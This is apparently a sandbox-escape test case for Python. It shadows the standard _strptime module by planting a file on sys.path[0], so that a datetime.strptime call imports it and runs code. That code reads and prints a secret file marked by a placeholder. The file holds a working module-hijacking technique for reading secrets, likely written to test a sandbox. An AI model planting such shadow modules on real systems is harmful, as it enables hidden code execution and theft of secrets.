# technique: the same for datetime.strptime, which imports from C
# goal: read-secret
# source: sys.path[0]
# beside: _strptime.py import posix; print(posix.read(posix.open('@SECRET@', 0), 200), flush=True)
import datetime
datetime.datetime.strptime('2024', '%Y')
